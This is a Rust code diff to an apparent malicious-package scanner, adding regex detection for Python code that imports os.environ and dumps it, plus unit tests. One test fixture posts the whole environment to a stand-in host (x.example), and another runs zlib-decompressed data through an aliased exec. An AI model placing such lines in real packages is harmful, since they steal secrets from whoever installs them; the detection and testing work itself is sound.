@@ -133,6 +133,30 @@ fn alias_exec() -> Option<&'static Regex> {
     .as_ref()
 }
 
+/// The 1-based line of a byte offset.
+fn line_at(text: &[u8], offset: usize) -> u32 {
+    let n = text[..offset.min(text.len())]
+        .iter()
+        .filter(|b| **b == b'\n')
+        .count()
+        + 1;
+    u32::try_from(n).unwrap_or(u32::MAX)
+}
+
+fn os_environ_alias() -> Option<&'static Regex> {
+    static R: OnceLock<Option<Regex>> = OnceLock::new();
+    R.get_or_init(|| Regex::new(r"(?-u)\bfrom\s+os\s+import\s+[^\n]*\benviron\b").ok())
+        .as_ref()
+}
+
+fn bare_environ_dump() -> Option<&'static Regex> {
+    static R: OnceLock<Option<Regex>> = OnceLock::new();
+    R.get_or_init(|| {
+        Regex::new(r"(?-u)(?:dict|str|repr|json\.dumps|list)\(\s*environ\b|(?:^|[^.\w])environ\.(?:items|keys|values)\(\)").ok()
+    })
+    .as_ref()
+}
+
 /// Lines of long base64/hex blobs and of code hidden after long runs of spaces.
 fn blobs_and_hidden(text: &[u8]) -> (Vec<u32>, Vec<u32>) {
     let mut blobs = Vec::new();
@@ -183,13 +207,26 @@ pub fn analyze(rules: &Rules, path: &str, text: &[u8], role: Role) -> Vec<Member
             && let Some(exec_idx) = rules.indicators.iter().position(|i| i.kind == Kind::Exec)
         {
             for m in call.find_iter(text).take(16) {
-                let line = text[..m.start()].iter().filter(|b| **b == b'\n').count() + 1;
                 hits.push(Hit {
                     indicator: exec_idx,
                     offset: m.start(),
-                    line: u32::try_from(line).unwrap_or(u32::MAX),
+                    line: line_at(text, m.start()),
                 });
             }
+        }
+    }
+    // `from os import environ` (or `getenv`, `environ as e`): bare names are the environment.
+    if let Some(env_alias) = os_environ_alias()
+        && env_alias.is_match(text)
+        && let Some(dump) = bare_environ_dump()
+        && let Some(idx) = rules.indicators.iter().position(|i| i.id == "env-dump")
+    {
+        for m in dump.find_iter(text).take(16) {
+            hits.push(Hit {
+                indicator: idx,
+                offset: m.start(),
+                line: line_at(text, m.start()),
+            });
         }
     }
     let of = |k: Kind| -> Vec<&Hit> {
@@ -597,13 +634,13 @@ fn hidden_in_base64(rules: &Rules, text: &[u8]) -> Option<(u32, String)> {
                 || w.eq_ignore_ascii_case(b"https")
         });
         if !kinds.is_empty() || looks_like_command {
-            let line = text[..g.start()].iter().filter(|b| **b == b'\n').count() + 1;
+            let line = line_at(text, g.start());
             let what = if kinds.is_empty() {
                 "names a download command or URL".to_string()
             } else {
                 format!("matches {}", kinds.join(", "))
             };
-            return Some((u32::try_from(line).unwrap_or(u32::MAX), what));
+            return Some((line, what));
         }
     }
     None
@@ -710,6 +747,11 @@ mod tests {
         assert_eq!(
             rules_of("p/setup.py", obf, &[]),
             vec![(RuleId::ObfuscatedExec, Severity::Critical)]
+        );
+        let from_os = "from os import environ\nimport requests\nrequests.post('https://x.example/c', json=dict(environ))\n";
+        assert_eq!(
+            rules_of("p/pkg/__init__.py", from_os, &[]),
+            vec![(RuleId::Exfiltration, Severity::Critical)]
         );
         let alias = "import zlib\nb = exec\n\nb(zlib.decompress(data))\n";
         assert_eq!(
